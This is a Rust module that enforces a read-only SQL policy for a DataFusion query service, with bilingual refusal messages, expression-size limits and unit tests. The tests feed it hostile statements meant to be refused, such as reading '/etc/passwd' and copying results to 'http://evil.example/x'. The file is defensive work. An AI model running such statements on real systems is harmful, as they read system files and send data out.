//! What SQL may do, decided on the parsed statement (never on its text): read-only queries,
//! EXPLAIN, temporary views, and catalogue introspection of granted tables. Everything that
//! reads or writes files, changes configuration or the catalogue, or reaches the network is
//! refused with the statement's class named.

use crate::{QueryError, Result};
use datafusion::sql::parser::Statement as DFStatement;
use datafusion::sql::sqlparser::ast::{ObjectName, Query, Statement, TableFactor, Visit, Visitor};
use std::collections::HashSet;
use std::ops::ControlFlow;

/// Table functions that compute rows without touching any file or the network.
pub const ALLOWED_TABLE_FUNCTIONS: &[&str] = &["generate_series", "range"];

/// What an accepted statement is.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Allowed {
    /// A query (SELECT / WITH / VALUES …).
    Query,
    /// EXPLAIN [ANALYZE] of a query.
    Explain,
    /// CREATE TEMPORARY VIEW name AS query.
    TempView {
        /// The view's name.
        name: String,
        /// OR REPLACE.
        or_replace: bool,
    },
    /// SHOW TABLES / SHOW COLUMNS / DESCRIBE of granted tables.
    Introspection,
}

fn refused(class: impl Into<String>, reason: &str) -> QueryError {
    QueryError::Refused { class: class.into(), reason: reason.into() }
}

const CLASS_WORDS: &[&str] = &[
    "CREATE",
    "DROP",
    "ALTER",
    "INSERT",
    "INTO",
    "DELETE",
    "FROM",
    "TABLE",
    "VIEW",
    "SCHEMA",
    "DATABASE",
    "INDEX",
    "FUNCTION",
    "EXTERNAL",
    "TEMPORARY",
    "TEMP",
    "OR",
    "REPLACE",
    "MATERIALIZED",
    "UPDATE",
    "SET",
    "RESET",
    "COPY",
    "TRUNCATE",
    "PREPARE",
    "EXECUTE",
    "BEGIN",
    "COMMIT",
    "ROLLBACK",
    "START",
    "TRANSACTION",
    "GRANT",
    "REVOKE",
    "ATTACH",
    "DETACH",
    "INSTALL",
    "LOAD",
    "MERGE",
    "DEALLOCATE",
    "USE",
    "ANALYZE",
    "VACUUM",
    "COMMENT",
    "UNLOAD",
    "EXPORT",
    "IMPORT",
    "PRAGMA",
    "CALL",
    "DECLARE",
    "FETCH",
    "CLOSE",
    "LISTEN",
    "NOTIFY",
    "KILL",
    "CACHE",
    "UNCACHE",
    "DISCARD",
    "LOCK",
    "ROLE",
    "USER",
    "SEQUENCE",
    "TYPE",
    "MACRO",
    "SECRET",
    "EXTENSION",
];

/// The statement's leading keywords, e.g. `INSERT INTO`, `DROP TABLE`, `SET`.
fn class_of(text: &str) -> String {
    let class: Vec<String> =
        text.split_whitespace().map(str::to_ascii_uppercase).take_while(|w| CLASS_WORDS.contains(&w.as_str())).take(3).collect();
    if class.is_empty() { "UNKNOWN".into() } else { class.join(" ") }
}

struct RelationCheck {
    problem: Option<QueryError>,
}

impl Visitor for RelationCheck {
    type Break = ();

    fn pre_visit_table_factor(&mut self, tf: &TableFactor) -> ControlFlow<()> {
        let bad = match tf {
            TableFactor::Table { name, args: Some(_), .. } => {
                let f = last_ident(name);
                (!ALLOWED_TABLE_FUNCTIONS.contains(&f.as_str())).then(|| refused(format!("TABLE FUNCTION {f}"), "ファイルやネットワークに触れうる表関数は使えません / table functions that may read files or the network are not allowed"))
            }
            TableFactor::Table { name, .. } if last_ident(name) == "df_settings" => Some(refused(
                "SETTINGS",
                "エンジンの設定は表示できません / the engine's settings are not shown (they would reveal the server's paths)",
            )),
            TableFactor::Table { name, .. } => {
                let n = name.to_string();
                (n.contains('/') || n.contains('\\') || n.contains("://") || n.contains('\'')).then(|| {
                    refused("FILE PATH", "ファイルやURLを直接読むことはできません / reading files or URLs directly is not allowed")
                })
            }
            TableFactor::Function { name, .. } => {
                Some(refused(format!("TABLE FUNCTION {}", last_ident(name)), "表関数は使えません / table functions are not allowed"))
            }
            TableFactor::TableFunction { .. }
            | TableFactor::JsonTable { .. }
            | TableFactor::OpenJsonTable { .. }
            | TableFactor::XmlTable { .. }
            | TableFactor::SemanticView { .. } => Some(refused("TABLE FUNCTION", "表関数は使えません / table functions are not allowed")),
            _ => None,
        };
        if let Some(e) = bad {
            self.problem = Some(e);
            return ControlFlow::Break(());
        }
        ControlFlow::Continue(())
    }
}

fn last_ident(name: &ObjectName) -> String {
    name.0.last().map(|p| p.to_string().trim_matches('"').to_ascii_lowercase()).unwrap_or_default()
}

fn check_query(q: &Query) -> Result<()> {
    let mut v = RelationCheck { problem: None };
    let _ = q.visit(&mut v);
    match v.problem {
        Some(e) => Err(e),
        None => Ok(()),
    }
}

fn check_statement(s: &Statement, taken: &HashSet<String>) -> Result<Allowed> {
    match s {
        Statement::Query(q) => {
            check_query(q)?;
            Ok(Allowed::Query)
        }
        Statement::Explain { statement, .. } => match check_statement(statement, taken)? {
            Allowed::Query => Ok(Allowed::Explain),
            _ => Err(refused("EXPLAIN", "EXPLAIN は問い合わせにのみ使えます / EXPLAIN is allowed for queries only")),
        },
        Statement::CreateView(v) => {
            if !v.temporary {
                return Err(refused(
                    "CREATE VIEW",
                    "一時ビューのみ作成できます（CREATE TEMPORARY VIEW）/ only temporary views may be created: use CREATE TEMPORARY VIEW",
                ));
            }
            if v.materialized {
                return Err(refused("CREATE MATERIALIZED VIEW", "実体化ビューは作成できません / materialized views are not allowed"));
            }
            let name = last_ident(&v.name);
            if v.name.0.len() > 1 {
                return Err(refused("CREATE VIEW", "ビュー名にスキーマを付けられません / a view name cannot be qualified"));
            }
            // One plain identifier: a quoted name with a dot ("ndb.re") would be read as a
            // qualified name when registered, and replace the table it names.
            let plain = name.bytes().next().is_some_and(|b| b.is_ascii_lowercase() || b == b'_')
                && name.len() <= 63
                && name.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_');
            if !plain || name == "information_schema" {
                return Err(refused(
                    "CREATE VIEW",
                    "ビュー名は英小文字・数字・_ だけで付けてください / a view name is letters a-z, digits and _ only",
                ));
            }
            if !v.columns.is_empty() {
                return Err(refused(
                    "CREATE VIEW",
                    "列名リストは使えません。SELECT の中で AS を使ってください / column lists are not supported: use AS in the SELECT",
                ));
            }
            if taken.contains(&name) {
                return Err(refused("CREATE VIEW", "テーブルと同じ名前のビューは作れません / a view cannot take the name of a table"));
            }
            check_query(&v.query)?;
            Ok(Allowed::TempView { name, or_replace: v.or_replace })
        }
        Statement::ShowTables { .. } | Statement::ShowColumns { .. } | Statement::ExplainTable { .. } => Ok(Allowed::Introspection),
        other => {
            let text = other.to_string();
            let class = class_of(&text);
            let reason = match class.split(' ').next().unwrap_or("") {
                "COPY" | "UNLOAD" | "EXPORT" | "LOAD" | "ATTACH" | "INSTALL" => {
                    "ファイル・ネットワークへのアクセスは許可されていません / file and network access is not allowed"
                }
                "SET" | "RESET" | "PRAGMA" => "設定は変更できません / settings cannot be changed",
                "CREATE" | "DROP" | "ALTER" | "TRUNCATE" | "COMMENT" | "GRANT" | "REVOKE" => {
                    "カタログは変更できません（一時ビューのみ可）/ the catalogue cannot be changed (temporary views only)"
                }
                "INSERT" | "UPDATE" | "DELETE" | "MERGE" => "データは読み取り専用です / the data is read-only",
                _ => "読み取り専用の問い合わせのみ許可されています / only read-only queries are allowed",
            };
            Err(refused(class, reason))
        }
    }
}

/// Decides whether a parsed statement may run. `taken` holds the names a temporary view may
/// not take: every table of the catalogue, granted or not.
pub fn check(stmt: &DFStatement, taken: &HashSet<String>) -> Result<Allowed> {
    match stmt {
        DFStatement::Statement(s) => check_statement(s, taken),
        DFStatement::Explain(e) => match check(&e.statement, taken)? {
            Allowed::Query => Ok(Allowed::Explain),
            _ => Err(refused("EXPLAIN", "EXPLAIN は問い合わせにのみ使えます / EXPLAIN is allowed for queries only")),
        },
        DFStatement::CreateExternalTable(_) => {
            Err(refused("CREATE EXTERNAL TABLE", "外部ファイルは読めません / external files cannot be read"))
        }
        DFStatement::CopyTo(_) => Err(refused("COPY", "ファイルへの書き出しは許可されていません / writing files is not allowed")),
        DFStatement::Reset(_) => Err(refused("RESET", "設定は変更できません / settings cannot be changed")),
    }
}

/// Deepest nesting of expressions a statement may have (`1 + 1 + … + 1` nests one level per
/// term; the engine's planner recurses over it).
pub const MAX_EXPR_DEPTH: usize = 256;
/// Most expressions a statement may hold (an `IN` list of codes counts one per code).
pub const MAX_EXPR_NODES: usize = 100_000;

struct ExprShape {
    depth: usize,
    deepest: usize,
    nodes: usize,
}

impl Visitor for ExprShape {
    type Break = ();

    fn pre_visit_expr(&mut self, _expr: &datafusion::sql::sqlparser::ast::Expr) -> ControlFlow<()> {
        self.depth += 1;
        self.nodes += 1;
        self.deepest = self.deepest.max(self.depth);
        if self.depth > MAX_EXPR_DEPTH || self.nodes > MAX_EXPR_NODES { ControlFlow::Break(()) } else { ControlFlow::Continue(()) }
    }

    fn post_visit_expr(&mut self, _expr: &datafusion::sql::sqlparser::ast::Expr) -> ControlFlow<()> {
        self.depth -= 1;
        ControlFlow::Continue(())
    }
}

/// Refuses a statement whose expressions nest deeper than [`MAX_EXPR_DEPTH`] or number more
/// than [`MAX_EXPR_NODES`] — before the engine plans it.
pub fn check_expressions(stmt: &DFStatement) -> Result<()> {
    let mut shape = ExprShape { depth: 0, deepest: 0, nodes: 0 };
    let stopped = match stmt {
        DFStatement::Statement(s) => s.visit(&mut shape).is_break(),
        DFStatement::Explain(e) => return check_expressions(&e.statement),
        _ => false,
    };
    if stopped {
        return Err(refused(
            "PLAN",
            &format!(
                "式が深すぎるか多すぎます（入れ子 {MAX_EXPR_DEPTH}・式 {MAX_EXPR_NODES} まで）。OR の連なりは IN (...) で書けます / the expressions nest too deeply or are too many (at most {MAX_EXPR_DEPTH} deep, {MAX_EXPR_NODES} in all): a chain of ORs can be written as IN (...)"
            ),
        ));
    }
    Ok(())
}

/// Finds a `SELECT` with nothing between `SELECT` and `FROM` (which the engine would only
/// answer with an internal error about batches without columns).
struct EmptySelect;

/// Whether a query's body (or a side of its set operations) selects no column.
fn selects_nothing(body: &datafusion::sql::sqlparser::ast::SetExpr) -> bool {
    use datafusion::sql::sqlparser::ast::SetExpr;
    match body {
        SetExpr::Select(s) => s.projection.is_empty(),
        SetExpr::SetOperation { left, right, .. } => selects_nothing(left) || selects_nothing(right),
        SetExpr::Query(q) => selects_nothing(&q.body),
        _ => false,
    }
}

impl Visitor for EmptySelect {
    type Break = ();

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        if selects_nothing(&query.body) { ControlFlow::Break(()) } else { ControlFlow::Continue(()) }
    }
}

/// Refuses a statement with a `SELECT` that lists no column, with what to write instead.
pub fn check_select_lists(stmt: &DFStatement) -> Result<()> {
    let empty = match stmt {
        DFStatement::Statement(s) => s.visit(&mut EmptySelect).is_break(),
        DFStatement::Explain(e) => return check_select_lists(&e.statement),
        _ => false,
    };
    if empty {
        return Err(QueryError::Syntax(
            "SELECT に列がありません。列名か式、行数なら count(*) を書いてください / a SELECT lists no column: name columns or expressions (count(*) for the number of rows)"
                .into(),
        ));
    }
    Ok(())
}

/// The relations one query reads.
struct Relations(Vec<String>);

impl Visitor for Relations {
    type Break = ();

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
        self.0.push(last_ident(relation));
        ControlFlow::Continue(())
    }
}

fn relations<V: Visit>(node: &V) -> Vec<String> {
    let mut r = Relations(Vec::new());
    let _ = node.visit(&mut r);
    r.0
}

/// Common table expressions defined anywhere in a statement, by name.
struct Ctes<'a>(std::collections::HashMap<String, &'a Query>);

fn collect_ctes<'a>(q: &'a Query, into: &mut Ctes<'a>) {
    if let Some(with) = &q.with {
        for cte in &with.cte_tables {
            into.0.insert(cte.alias.name.value.to_ascii_lowercase(), &cte.query);
            collect_ctes(&cte.query, into);
        }
    }
}

/// How many table references `stmt` reads once every common table expression and view it
/// uses is written out in full — what the planner will build. A CTE read twice counts twice;
/// `views` gives the expanded size of each temporary view. Saturates instead of overflowing.
pub fn expanded_relations(stmt: &DFStatement, views: &std::collections::HashMap<String, u64>) -> u64 {
    let query: &Query = match stmt {
        DFStatement::Statement(s) => match s.as_ref() {
            Statement::Query(q) => q,
            Statement::CreateView(v) => &v.query,
            Statement::Explain { statement, .. } => return expanded_relations(&DFStatement::Statement(statement.clone()), views),
            _ => return 0,
        },
        DFStatement::Explain(e) => return expanded_relations(&e.statement, views),
        _ => return 0,
    };
    let mut ctes = Ctes(std::collections::HashMap::new());
    collect_ctes(query, &mut ctes);
    let mut memo: std::collections::HashMap<String, u64> = std::collections::HashMap::new();
    fn size(
        name: &str,
        ctes: &Ctes<'_>,
        views: &std::collections::HashMap<String, u64>,
        memo: &mut std::collections::HashMap<String, u64>,
        open: &mut Vec<String>,
    ) -> u64 {
        if let Some(n) = memo.get(name) {
            return *n;
        }
        let Some(q) = ctes.0.get(name) else { return views.get(name).copied().unwrap_or(1) };
        if open.iter().any(|o| o == name) {
            return 1; // a recursive reference
        }
        open.push(name.to_string());
        let n = relations(*q).iter().fold(0u64, |acc, r| acc.saturating_add(size(r, ctes, views, memo, open))).max(1);
        open.pop();
        memo.insert(name.to_string(), n);
        n
    }
    let mut open = Vec::new();
    relations(query.body.as_ref()).iter().fold(0u64, |acc, r| acc.saturating_add(size(r, &ctes, views, &mut memo, &mut open)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use datafusion::sql::parser::DFParser;

    /// `SELECT FROM t`, in a subquery or a set operation too, is refused with Kura's words; a
    /// select list of any kind passes.
    #[test]
    fn empty_select_lists_are_refused() {
        let first = |sql: &str| DFParser::parse_sql(sql).unwrap().pop_front().unwrap();
        for sql in ["SELECT FROM re", "SELECT n FROM (SELECT FROM re) t", "SELECT 1 UNION ALL SELECT FROM re", "EXPLAIN SELECT FROM re"] {
            assert!(matches!(check_select_lists(&first(sql)), Err(QueryError::Syntax(m)) if m.contains("lists no column")), "{sql}");
        }
        for sql in ["SELECT count(*) FROM re", "SELECT 1", "WITH t AS (SELECT age FROM re) SELECT * FROM t"] {
            assert!(check_select_lists(&first(sql)).is_ok(), "{sql}");
        }
    }

    fn classify(sql: &str) -> Result<Allowed> {
        let granted: HashSet<String> = ["re".to_string(), "sy".to_string(), "m_disease".to_string()].into();
        let mut stmts = DFParser::parse_sql(sql).map_err(|e| QueryError::Syntax(e.to_string()))?;
        let s = stmts.pop_front().expect("one statement");
        check(&s, &granted)
    }

    #[test]
    fn expansion_counts_what_the_planner_will_build() {
        let parse = |sql: &str| DFParser::parse_sql(sql).unwrap().pop_front().unwrap();
        let views = std::collections::HashMap::from([("v".to_string(), 7u64)]);
        assert_eq!(expanded_relations(&parse("SELECT * FROM re JOIN sy USING (receipt_id)"), &views), 2);
        assert_eq!(expanded_relations(&parse("WITH a AS (SELECT * FROM re) SELECT * FROM a x JOIN a y ON true"), &views), 2);
        assert_eq!(expanded_relations(&parse("SELECT * FROM v JOIN re ON true"), &views), 8);
        let mut chain = String::from("WITH a0 AS (SELECT 1 AS x)");
        for i in 1..=40 {
            chain.push_str(&format!(", a{i} AS (SELECT p.x FROM a{j} p JOIN a{j} q ON p.x = q.x)", j = i - 1));
        }
        chain.push_str(" SELECT count(*) FROM a40");
        assert!(expanded_relations(&parse(&chain), &views) > 1 << 39, "doubles at every step, without overflowing");
        let recursive = "WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t";
        assert!(expanded_relations(&parse(recursive), &views) <= 2);
    }

    #[test]
    fn read_only_statements_pass() {
        assert_eq!(classify("SELECT 1").unwrap(), Allowed::Query);
        assert_eq!(classify("WITH a AS (SELECT * FROM re) SELECT count(*) FROM a JOIN sy USING (receipt_id)").unwrap(), Allowed::Query);
        assert_eq!(classify("EXPLAIN SELECT * FROM re").unwrap(), Allowed::Explain);
        assert_eq!(classify("EXPLAIN ANALYZE SELECT * FROM re").unwrap(), Allowed::Explain);
        assert!(matches!(classify("CREATE TEMPORARY VIEW v AS SELECT * FROM re").unwrap(), Allowed::TempView { .. }));
        assert_eq!(classify("SELECT * FROM generate_series(1, 3)").unwrap(), Allowed::Query);
        assert_eq!(classify("SHOW TABLES").unwrap(), Allowed::Introspection);
    }

    #[test]
    fn every_refused_class_is_named() {
        let cases = [
            ("CREATE EXTERNAL TABLE t STORED AS PARQUET LOCATION '/etc/passwd'", "CREATE EXTERNAL TABLE"),
            ("COPY re TO '/tmp/out.parquet'", "COPY"),
            ("COPY (SELECT 1) TO 'http://evil.example/x'", "COPY"),
            ("INSERT INTO re VALUES (1)", "INSERT INTO"),
            ("DELETE FROM re", "DELETE FROM"),
            ("UPDATE re SET age = 1", "UPDATE"),
            ("DROP TABLE re", "DROP TABLE"),
            ("CREATE TABLE t AS SELECT 1", "CREATE TABLE"),
            ("CREATE VIEW v AS SELECT 1", "CREATE VIEW"),
            ("CREATE TEMPORARY VIEW re AS SELECT 1", "CREATE VIEW"),
            ("SET datafusion.execution.target_partitions = 1", "SET"),
            ("RESET datafusion.execution.batch_size", "RESET"),
            ("SELECT * FROM read_parquet('/etc/passwd')", "TABLE FUNCTION read_parquet"),
            ("SELECT * FROM read_csv('http://x/y.csv')", "TABLE FUNCTION read_csv"),
            ("SELECT * FROM '/etc/passwd'", "FILE PATH"),
            ("SELECT * FROM \"s3://bucket/x.parquet\"", "FILE PATH"),
            ("EXPLAIN COPY re TO '/tmp/x'", "COPY"),
            ("ALTER TABLE re ADD COLUMN x INT", "ALTER TABLE"),
            ("CREATE SCHEMA s", "CREATE SCHEMA"),
            ("DROP VIEW v", "DROP VIEW"),
            ("CREATE TEMPORARY VIEW \"ndb.re\" AS SELECT 1", "CREATE VIEW"),
            ("CREATE TEMPORARY VIEW \"RE\" AS SELECT 1", "CREATE VIEW"),
            ("CREATE TEMPORARY VIEW m_disease AS SELECT 1", "CREATE VIEW"),
            ("SELECT * FROM information_schema.df_settings", "SETTINGS"),
            ("SELECT * FROM information_schema.\"df_settings\"", "SETTINGS"),
        ];
        for (sql, class) in cases {
            match classify(sql) {
                Err(QueryError::Refused { class: c, .. }) => assert_eq!(c, class, "{sql}"),
                other => panic!("{sql}: expected refusal, got {other:?}"),
            }
        }
    }
}
